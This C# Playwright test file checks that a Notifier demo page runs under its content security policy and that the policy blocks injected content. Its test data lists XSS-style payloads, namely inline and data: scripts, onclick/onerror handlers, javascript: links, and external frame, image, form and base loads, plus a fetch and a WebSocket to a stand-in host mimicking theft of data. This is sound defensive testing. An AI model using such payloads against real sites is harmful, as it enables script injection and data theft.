using FluentAssertions;
using Notifier.Tests.Support;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace Notifier.Tests.Browser;

/// <summary>The page works under its content security policy, and the policy blocks injected content.</summary>
public sealed class ContentSecurityPolicyTests(BrowserFixture browser, RedisFixture fixture) : IClassFixture<BrowserFixture>, IClassFixture<RedisFixture>
{
    private RedisServer Redis => fixture.Redis;

    /// <summary>The violated directive, and the script that violates it. <c>add</c> puts HTML into the page.</summary>
    public static TheoryData<string, string> Attacks { get; } = new()
    {
        { "script-src-elem", "document.body.append(Object.assign(document.createElement('script'), { textContent: 'ran = 1' }))" },
        { "script-src-elem", "document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,ran = 1' }))" },
        { "script-src-attr", "add(`<button id=bad onclick=\"ran = 1\"></button>`); bad.click()" },
        { "script-src-attr", "add(`<img src=data:, onerror=\"ran = 1\">`)" },
        { "script-src-elem", "add(`<a id=bad href=\"javascript:ran = 1\"></a>`); bad.click()" },
        { "frame-src", "add(`<iframe src=https://elsewhere.invalid/></iframe>`)" },
        { "style-src-attr", "add(`<p style=\"background: url(https://elsewhere.invalid/)\">`)" },
        { "img-src", "add(`<img src=https://elsewhere.invalid/>`)" },
        { "connect-src", "fetch('https://elsewhere.invalid/?stolen').catch(() => 0)" },
        { "connect-src", "try { new WebSocket('wss://elsewhere.invalid/') } catch { }" },
        { "form-action", "add(`<form id=bad action=https://elsewhere.invalid/></form>`); bad.submit()" },
        { "base-uri", "document.head.insertAdjacentHTML('beforeend', '<base href=https://elsewhere.invalid/>')" },
    };

    [Fact]
    public async Task The_content_security_policy_allows_everything_that_the_demo_page_does()
    {
        await using var app = await NotifierApp.StartAsync(Redis.Configuration);
        await using var page = await DemoPage.OpenAsync(browser, Redis, app);
        await Expect(page.Status).ToHaveTextAsync("Connected to WebSocket server");
        await page.IsLiveAsync();

        await page.ShowAsync("notifications.new-user", "Mathias signed up");
        await Redis.PublishAsync("new-users", new byte[] { 0xFF });
        await Expect(page.Payloads.First).ToHaveTextAsync("(1 bytes of binary data) ff");
        await page.SubscribeAsync("orders.*");
        await page.SubscribeAsync("__keyspace@0__:x");
        await Expect(page.Page.Locator("#names > li.refused .reason")).ToContainTextAsync("reserved");
        await page.Page.ClickAsync("#copy");
        await Expect(page.Page.Locator("#copy")).Not.ToHaveTextAsync("Copy");
        await page.Names.Locator("button").First.ClickAsync();
        await Expect(page.Names).ToHaveCountAsync(3);

        // Both come from the script: the style sheet and the colours.
        await Expect(page.Page.Locator("#page")).ToHaveCSSAsync("display", "grid");
        await Expect(page.Names.First).ToHaveCSSAsync("--hue", "302.5");
        page.ConsoleErrors.Should().BeEmpty();
        page.Errors.Should().BeEmpty();
    }

    /// <summary>The policy protects the page even if a bug turns a name or a payload into HTML.</summary>
    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task Injected_content_is_blocked_by_the_content_security_policy(string directive, string attack)
    {
        await using var app = await NotifierApp.StartAsync(Redis.Configuration);
        await using var page = await DemoPage.OpenAsync(browser, Redis, app);
        await page.IsLiveAsync();

        await page.Page.EvaluateAsync($"() => {{ const add = html => document.body.insertAdjacentHTML('beforeend', html); {attack} }}");

        await Eventually.IsAsync(() => page.Violations.Contains(directive), $"{directive} is violated");
        (await page.Page.EvaluateAsync<bool>("() => 'ran' in window")).Should().BeFalse();
    }
}
